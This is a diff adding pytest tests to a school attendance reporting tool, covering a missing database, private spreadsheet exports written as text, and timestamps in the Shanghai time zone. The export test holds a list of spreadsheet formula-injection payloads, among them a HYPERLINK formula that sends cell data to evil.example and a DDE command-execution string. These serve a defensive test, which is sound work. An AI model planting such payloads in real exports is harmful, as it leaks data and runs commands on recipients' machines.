@@ -366,11 +366,25 @@ def test_model_works_on_an_empty_store(tmp_path: Path):
     params.mkdir()
     (params / "schools.yaml").write_text(SCHOOLS_YAML, encoding="utf-8")
     settings = Settings(db=f"sqlite:///{tmp_path / 'empty.db'}", params=params, outputs=tmp_path)
+    store.connect(settings.db)  # reportkit init: a store with nothing in it yet
     model = ConsoleModel(settings)
     assert model.latest_date() is None
     console = Console(model, DAY)
     console.view.value = "submissions"
     assert "未报送 3" in console.counts.value
+
+
+def test_model_refuses_a_store_that_is_not_there(tmp_path: Path):
+    from reportkit.errors import StoreMissingError
+
+    params = tmp_path / "params"
+    params.mkdir()
+    (params / "schools.yaml").write_text(SCHOOLS_YAML, encoding="utf-8")
+    db = tmp_path / "typo.db"
+    settings = Settings(db=f"sqlite:///{db}", params=params, outputs=tmp_path)
+    with pytest.raises(StoreMissingError, match=r"typo\.db"):
+        ConsoleModel(settings)
+    assert not db.exists()  # nothing was created
 
 
 def test_console_command_binds_loopback_with_a_token(district, monkeypatch, tmp_path):
@@ -518,3 +532,94 @@ def test_school_report_notebook_shows_the_controls_when_interactive(district, tm
         ]
     assert len(views[True]) == 1
     assert views[False] == []  # the batch run never builds a widget
+
+
+# --- exports: text stays text, files private, names on the officer's clock ---------------
+
+_HOSTILE = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+]
+
+
+def _sheet_xml(path: Path) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(path) as book:
+        return "".join(
+            book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/")
+        )
+
+
+@pytest.mark.parametrize("umask", [0o022, 0o077])
+def test_export_writes_names_and_notes_as_text_in_a_private_file(tmp_path: Path, umask: int):
+    import os
+    import re
+    from zoneinfo import ZoneInfo
+
+    settings = build_district(tmp_path)
+    engine = store.connect(settings.db)
+    hostile_name = _HOSTILE[0]
+    with engine.begin() as conn:  # a pupil whose name is a formula, who did not report
+        store.upsert(
+            conn,
+            store.people,
+            [
+                {
+                    "school_id": "a1",
+                    "person_id": "p99",
+                    "name": hostile_name,
+                    "role": "student",
+                    "grade": "一年级",
+                    "class": "1班",
+                    "status": "active",
+                    "row_hash": "h",
+                    "source_file": "roster.csv",
+                    "updated_at": store.utcnow(),
+                }
+            ],
+        )
+    model = ConsoleModel(settings)
+    model.set_date(DAY)
+    for note in _HOSTILE[1:]:
+        model.record("a1", "p99", "contacted_family", note, "李老师")
+    old = os.umask(umask)
+    try:
+        paths = [model.export(view, model.view(view), "a1") for view in ("missing", "followups")]
+    finally:
+        os.umask(old)
+    texts = set()
+    for path in paths:
+        assert path.stat().st_mode & 0o777 == 0o600
+        assert path.parent.stat().st_mode & 0o777 == 0o700
+        assert not re.search(r"<f[ >/]", _sheet_xml(path))  # no formula anywhere
+        for row in load_workbook(path).active.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s"
+                    texts.add(cell.value)
+                    if cell.value.startswith(("=", "+", "-", "@")):
+                        assert cell.quotePrefix  # stays text when the cell is edited
+    assert hostile_name in texts
+    assert set(_HOSTILE[1:]) <= texts
+    # the file name's time is the deployment's clock (Asia/Shanghai), not the host's
+    stamp = re.search(r"-(\d{6})\.xlsx$", paths[0].name).group(1)
+    now = datetime.now(ZoneInfo("Asia/Shanghai"))
+    shown = now.replace(hour=int(stamp[:2]), minute=int(stamp[2:4]), second=int(stamp[4:]))
+    assert abs((now - shown).total_seconds()) < 120
+
+
+def test_followup_times_are_shown_in_the_deployments_zone(district):
+    from zoneinfo import ZoneInfo
+
+    model = ConsoleModel(district)
+    model.set_date(DAY)
+    model.record("a1", "p04", "contacted_family", "", "李老师")
+    before = datetime.now(ZoneInfo("Asia/Shanghai"))
+    shown = model.view("followups")["created_at"].iloc[0]
+    stamp = datetime.strptime(shown, "%Y-%m-%d %H:%M").replace(tzinfo=ZoneInfo("Asia/Shanghai"))
+    assert abs((before - stamp).total_seconds()) < 120  # +08:00, not the host's UTC
+    assert model.latest()[("a1", "p04")].endswith(shown)
